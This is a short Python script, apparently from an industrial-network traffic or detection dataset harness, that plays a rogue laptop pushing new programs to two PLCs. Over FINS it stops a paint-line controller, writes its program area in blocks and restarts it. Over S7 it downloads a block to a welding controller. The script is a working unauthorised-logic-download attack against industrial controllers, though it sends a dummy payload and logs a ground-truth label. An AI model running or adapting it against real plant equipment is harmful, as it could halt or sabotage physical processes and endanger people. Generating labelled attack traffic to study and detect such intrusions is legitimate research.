"""A laptop that nobody knows gives two controllers another program: in FINS the paint line's, in S7 the second welding one."""

import pathlib
import sys

sys.path[:0] = [str(pathlib.Path(__file__).resolve().parent), str(pathlib.Path(__file__).resolve().parent.parent)]
import cycles
from fins.udp import UDPFinsConnection
from snap7.client import Client
from truth import Deed

FINS, FINS_NODE, S7 = "10.10.5.10", 10, "10.10.2.11"
BLOCK = 512  # bytes
PROGRAM = bytes(range(256)) * 8


def over_fins():
    client = UDPFinsConnection()
    client.dest_node_add, client.srce_node_add = FINS_NODE, 200
    client.connect(FINS)
    client.cpu_unit_data_read()
    client.change_to_program_mode()
    for begin in range(0, len(PROGRAM), BLOCK):
        last = 0x8000 if begin + BLOCK >= len(PROGRAM) else 0
        client.program_area_write(begin, BLOCK | last, PROGRAM[begin:begin + BLOCK])
    client.change_to_run_mode()
    client.fins_socket.close()


def over_s7():
    client = Client()
    client.connect(S7, 0, 2)
    try:
        client.download(bytearray(PROGRAM[:240]), 1)
    except Exception as error:  # What the controller thinks of it is traffic, too.
        print(repr(error), file=sys.stderr)
    client.disconnect()


if cycles.wait_for(33, 0.8):
    with Deed("program_download", "FINS program area write in four blocks, the controller stopped before and started after; S7 block download",
              [FINS, S7], [9600, 102]):
        over_fins()
        over_s7()
